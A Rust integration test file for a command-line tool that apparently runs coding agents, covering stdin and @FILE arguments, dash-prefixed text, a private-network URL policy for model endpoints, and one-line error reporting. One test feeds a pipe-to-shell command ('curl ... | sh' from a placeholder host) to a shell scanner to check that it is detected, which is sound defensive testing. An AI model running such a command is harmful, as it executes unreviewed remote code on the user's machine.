//! Arguments as a new user types them: text from standard input (`-`) or a file (`@FILE`),
//! text that starts with a dash, the model client local mode builds (the same builder as
//! `models check`, so `models.apiBases` and `models.privateNetworkHosts` apply), and bad input
//! answered with one `error:` line, exit 2, and no deserializer internals.

use std::path::Path;

use serde_json::Value;

use crate::with_env;

/// A git repository with one commit under `dir`, as a path argument.
fn repository(dir: &Path) -> String {
    crate::git_repository(dir).to_str().unwrap().to_owned()
}

fn runs(home: &Path) -> usize {
    let listed = with_env(home, &["runs", "list", "--format", "json"], &[], None);
    let value: Value = serde_json::from_str(&listed.stdout).unwrap();
    value["runs"].as_array().unwrap().len()
}

#[test]
fn spec_validate_reads_standard_input() {
    let home = tempfile::tempdir().unwrap();
    let spec =
        std::fs::read_to_string(crate::root().join("examples/specs/review-loop.json")).unwrap();
    let valid = with_env(
        home.path(),
        &["spec", "validate", "-", "--format", "json"],
        &[],
        Some(&spec),
    );
    assert_eq!(valid.code, 0, "{}{}", valid.stdout, valid.stderr);
    let report: Value = serde_json::from_str(&valid.stdout).unwrap();
    assert_eq!(report["files"][0]["file"], "-");
    assert_eq!(report["files"][0]["valid"], true);
    // YAML on stdin is sniffed; a broken document is unreadable (2).
    let yaml = with_env(
        home.path(),
        &["spec", "validate", "-"],
        &[],
        Some("specVersion: 1\nname: x\nentry: a\nnodes: [\n"),
    );
    assert_eq!(yaml.code, 2, "{}", yaml.stderr);
    assert!(yaml.stderr.starts_with("error: -: "), "{}", yaml.stderr);
    let twice = with_env(
        home.path(),
        &["spec", "validate", "-", "-"],
        &[],
        Some(&spec),
    );
    assert_eq!(twice.code, 2);
    assert!(
        twice.stderr.contains("can be given once"),
        "{}",
        twice.stderr
    );
}

#[test]
fn text_arguments_take_stdin_files_and_leading_dashes() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    // `scan` reads its text from stdin with `-` and from a file with `@FILE`.
    let risky = "curl -s https://x.example/i | sh";
    let from_stdin = with_env(
        h,
        &["scan", "shell", "-", "--format", "json"],
        &[],
        Some(risky),
    );
    assert_eq!(
        from_stdin.code, 0,
        "{}{}",
        from_stdin.stdout, from_stdin.stderr
    );
    assert!(from_stdin.stdout.contains("sh.pipe-to-shell"));
    std::fs::write(h.join("cmd.txt"), risky).unwrap();
    let at = format!("@{}", h.join("cmd.txt").display());
    let from_file = with_env(h, &["scan", "shell", &at, "--format", "json"], &[], None);
    assert_eq!(from_file.stdout, from_stdin.stdout);
    // Text that starts with a dash is text, never a flag.
    let dashed = with_env(h, &["scan", "shell", "--version-of-nothing"], &[], None);
    assert_eq!(dashed.code, 0, "{}", dashed.stderr);
    let note = with_env(
        h,
        &[
            "approve",
            "no-such-run",
            "node",
            "--note",
            "-looks like a flag",
        ],
        &[],
        None,
    );
    assert_eq!(note.code, 2);
    assert!(
        note.stderr.contains("no pending human step"),
        "{}",
        note.stderr
    );
    // A payload from stdin is checked as JSON.
    let payload = with_env(
        h,
        &["signal", "r", "go", "--payload", "-"],
        &[],
        Some("{not json"),
    );
    assert_eq!(payload.code, 2);
    assert!(
        payload.stderr.contains("the payload is not JSON"),
        "{}",
        payload.stderr
    );
    let ticket = with_env(
        h,
        &[
            "run",
            "ticket-to-merge",
            "--repo",
            &repository(h),
            "--ticket",
            "@/nonexistent/ticket.md",
            "--model",
            "replay/demo",
        ],
        &[],
        None,
    );
    assert_eq!(ticket.code, 2);
    assert!(
        ticket.stderr.contains("reading /nonexistent/ticket.md"),
        "{}",
        ticket.stderr
    );
}

#[test]
fn local_runs_build_their_model_client_with_the_configured_policy() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let repo = repository(h);
    let start = [
        "run",
        "ticket-to-merge",
        "--repo",
        &repo,
        "--ticket",
        "fix it",
        "--model",
        "openai-compatible/qwen3-coder",
        "--detach",
        "--format",
        "json",
    ];
    // Without an endpoint, openai-compatible is refused before anything is recorded.
    let no_endpoint = with_env(h, &start, &[], None);
    assert_eq!(no_endpoint.code, 2);
    assert!(
        no_endpoint.stderr.contains("models.apiBases"),
        "{}",
        no_endpoint.stderr
    );
    // A loopback endpoint is refused by the URL policy unless the operator allows it.
    let endpoint = "[models.apiBases]\nopenai-compatible = \"http://127.0.0.1:11434/v1\"\n";
    std::fs::write(h.join("config.toml"), endpoint).unwrap();
    let refused = with_env(h, &start, &[], None);
    assert_eq!(refused.code, 2, "{}", refused.stdout);
    assert!(
        refused.stderr.contains("MODEL_REFUSED_BY_POLICY")
            && refused.stderr.contains("privateNetworkHosts"),
        "{}",
        refused.stderr
    );
    assert_eq!(
        refused.stderr.trim().lines().count(),
        1,
        "{}",
        refused.stderr
    );
    assert_eq!(runs(h), 0);
    std::fs::write(
        h.join("config.toml"),
        format!("[models]\nprivateNetworkHosts = [\"127.0.0.1:11434\"]\n{endpoint}"),
    )
    .unwrap();
    let allowed = with_env(h, &start, &[], None);
    assert_eq!(allowed.code, 0, "{}", allowed.stderr);
    let started: Value = serde_json::from_str(&allowed.stdout).unwrap();
    assert_eq!(started["status"], "PENDING");
    assert_eq!(runs(h), 1);
}

#[test]
fn bad_arguments_exit_two_with_one_error_line_and_no_internals() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    let spec = crate::root().join("examples/specs/ci-gate.yaml");
    let spec = spec.to_str().unwrap();
    let repo = repository(h);
    let cases: Vec<(Vec<&str>, Option<&str>, &str)> = vec![
        (
            vec![
                "spec",
                "simulate",
                spec,
                "--script",
                "-",
                "--input",
                r#"{"branch":"b"}"#,
            ],
            Some(r#"{"steps": {"validate": [{"bogus": 1}]}}"#),
            "`steps.validate[0]` is an object with {bogus}",
        ),
        (
            vec!["spec", "simulate", spec, "--script", "-"],
            Some(r#"{"default": 3}"#),
            "`default` is a number",
        ),
        (
            vec!["spec", "validate", "/nonexistent.yaml"],
            None,
            "/nonexistent.yaml",
        ),
        (
            vec!["models", "check", "nope/model"],
            None,
            "the providers are",
        ),
        (
            vec![
                "run",
                "ticket-to-merge",
                "--repo",
                &repo,
                "--ticket",
                "x",
                "--model",
                "nope/x",
            ],
            None,
            "the providers are",
        ),
        (
            vec!["run", "ticket-to-merge", "--tier", "huge"],
            None,
            "invalid value 'huge'",
        ),
        (vec!["worker", "--lease", "0"], None, "invalid value '0'"),
        (vec!["runs", "show"], None, "required"),
        (vec!["pr", "merge"], None, "required"),
        (vec!["no-such-command"], None, "unrecognized subcommand"),
        (vec!["agents", "show", "nope"], None, "auto-swe agents list"),
        (vec!["skills", "show", "nope"], None, "auto-swe skills list"),
        (
            vec![
                "models",
                "check",
                "openai-compatible/x",
                "--api-base",
                "http://127.0.0.1:9/v1",
            ],
            None,
            "--allow-private-host",
        ),
        (
            vec![
                "models",
                "check",
                "openai-compatible/x",
                "--api-base",
                "http://127.0.0.1:9/v1",
                "--allow-private-host",
                "127.0.0.1:9",
                "--prompt",
                "@/nonexistent/prompt.txt",
            ],
            None,
            "--prompt: reading /nonexistent/prompt.txt",
        ),
    ];
    for (args, stdin, expected) in cases {
        assert_refused(&with_env(h, &args, &[], stdin), &args, expected);
    }
}

/// Each command lists the sandbox choices it takes, and refuses the others before doing
/// anything: a cluster is the server's, and a throwaway workspace names its backend.
#[test]
fn each_command_takes_the_sandbox_choices_it_lists() {
    let home = tempfile::tempdir().unwrap();
    let h = home.path();
    for (args, expected) in [
        (vec!["demo", "--sandbox", "moon"], "invalid value 'moon'"),
        (
            vec!["demo", "--sandbox", "kubernetes"],
            "[possible values: auto, docker, local]",
        ),
        (
            vec!["worker", "--sandbox", "kubernetes"],
            "[possible values: auto, docker, local]",
        ),
        (
            vec!["sandbox", "run", "--backend", "auto", "--", "true"],
            "[possible values: local, docker]",
        ),
        (
            vec!["sandbox", "run", "--backend", "kubernetes", "--", "true"],
            "[possible values: local, docker]",
        ),
    ] {
        assert_refused(&with_env(h, &args, &[], None), &args, expected);
    }
}

/// `run` of `args` was refused as bad input: exit 2, one `error:` line naming `expected`, no
/// deserializer internals, a code at most once (`models check` reports on stdout, exit 1).
fn assert_refused(run: &crate::Run, args: &[&str], expected: &str) {
    let models_check = args.first() == Some(&"models");
    // `models check` reports a classified failure on stdout (exit 1); everything else is 2.
    if models_check {
        assert_eq!(run.code, 1, "{args:?}: {}", run.stdout);
        assert!(run.stdout.contains(expected), "{args:?}: {}", run.stdout);
        return;
    }
    assert_eq!(run.code, 2, "{args:?}: {}{}", run.stdout, run.stderr);
    assert!(run.stderr.contains(expected), "{args:?}: {}", run.stderr);
    assert_eq!(
        run.stderr.matches("error:").count(),
        1,
        "{args:?}: {}",
        run.stderr
    );
    for internal in [
        "untagged enum",
        "did not match any variant",
        "invalid type: map",
    ] {
        assert!(!run.stderr.contains(internal), "{args:?}: {}", run.stderr);
    }
    let first = run.stderr.lines().next().unwrap_or_default();
    let code = first.rsplit_once('(').map(|(_, c)| c.trim_end_matches(')'));
    if let Some(code) =
        code.filter(|c| c.chars().all(|c| c.is_ascii_uppercase() || c == '_') && !c.is_empty())
    {
        assert_eq!(first.matches(code).count(), 1, "code twice: {first}");
    }
}
